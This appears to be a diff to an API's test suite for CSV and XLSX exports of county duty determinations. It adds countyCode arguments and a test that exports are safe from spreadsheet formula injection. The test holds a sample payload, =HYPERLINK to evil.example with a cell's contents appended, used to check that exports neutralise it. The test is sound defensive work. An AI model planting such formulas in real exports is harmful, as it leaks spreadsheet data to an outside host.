@@ -4,6 +4,7 @@ import path from "node:path";
 import { demoAssessmentPlan, demoCounty } from "@dutylist/core/testing";
 import { type Database, openDatabase, resetDatabase, testDatabaseTarget } from "@dutylist/store";
 import { parseCsv, readWorkbook } from "@dutylist/workbook";
+import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { ensureDemoCounty } from "./demo-data.ts";
 import { createApi } from "./yoga.ts";
@@ -229,7 +230,7 @@ describe("workbook downloads", () => {
 describe("lists downloads", () => {
   it("answers one list as CSV, the items listsAsOf gives", async () => {
     const lists = await post<{ listsAsOf: { cooperative: { itemCode: string }[] } }>(
-      `{ listsAsOf(townshipCode: "QX-CG", date: "2025-10-01") { cooperative { itemCode } } }`,
+      `{ listsAsOf(countyCode: "QX", townshipCode: "QX-CG", date: "2025-10-01") { cooperative { itemCode } } }`,
     );
     const response = await download(
       "/export/lists.csv?countyCode=QX&asOf=2025-10-01&townshipCode=QX-CG&list=COOPERATIVE",
@@ -258,7 +259,7 @@ describe("lists downloads", () => {
 });
 
 describe("determination downloads narrow exactly like determinationFacts", () => {
-  const RECORD = `mutation ($input: FailureCaseInput!) { recordFailureCase(input: $input) {
+  const RECORD = `mutation ($input: FailureCaseInput!) { recordFailureCase(countyCode: "QX", input: $input) {
     ... on MutationRecordFailureCaseSuccess { data { decisionId } } } }`;
   const FACTS = `query ($role: Role, $partyCode: String, $townshipCode: String) {
     determinationFacts(countyCode: "QX", first: 100, role: $role, partyCode: $partyCode, townshipCode: $townshipCode) {
@@ -378,5 +379,53 @@ describe("bad requests", () => {
     expect(posted.headers.get("allow")).toBe("GET");
     const data = await post<{ county: { name: string } }>(`{ county(code: "QX") { name } }`);
     expect(data.county.name).toBe("青溪县");
+  });
+});
+
+describe("text that a spreadsheet would run as a formula (CSV injection, OWASP)", () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';
+  const RECORD = `mutation ($input: FailureCaseInput!) { recordFailureCase(countyCode: "QX", input: $input) {
+    ... on MutationRecordFailureCaseSuccess { data { decisionId } } } }`;
+  let decisionId = "";
+
+  beforeAll(async () => {
+    const data = await post<{ recordFailureCase: { data: { decisionId: string } } }>(RECORD, {
+      input: {
+        townshipCode: "QX-SM",
+        date: "2025-04-02",
+        matter: HYPERLINK,
+        findings: { pushedDownBy: "ZJJ" },
+      },
+    });
+    decisionId = data.recordFailureCase.data.decisionId;
+  });
+
+  it("determinations.csv writes the free text with a leading quote, shown and not run", async () => {
+    const response = await download("/export/determinations.csv?countyCode=QX&townshipCode=QX-SM");
+    const { rows } = await csvRows(response);
+    const row = rows.find((r) => r.认定编号 === decisionId);
+    expect(row?.事项说明).toBe(`'${HYPERLINK}`);
+    // No cell of the file starts with a formula character, but plain numbers.
+    const cells = rows.flatMap((r) => Object.values(r));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
+  });
+
+  it("determinations.xlsx writes it as a string cell, not a formula", async () => {
+    const response = await download("/export/determinations.xlsx?countyCode=QX&townshipCode=QX-SM");
+    expect(response.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await response.arrayBuffer());
+    const cells: ExcelJS.Cell[] = [];
+    workbook.eachSheet((sheet) =>
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (cell.text === HYPERLINK) cells.push(cell);
+        }),
+      ),
+    );
+    // One row per party of the case.
+    expect(cells.length).toBeGreaterThan(0);
+    for (const cell of cells)
+      expect([cell.type, cell.formula]).toEqual([ExcelJS.ValueType.String, undefined]);
   });
 });
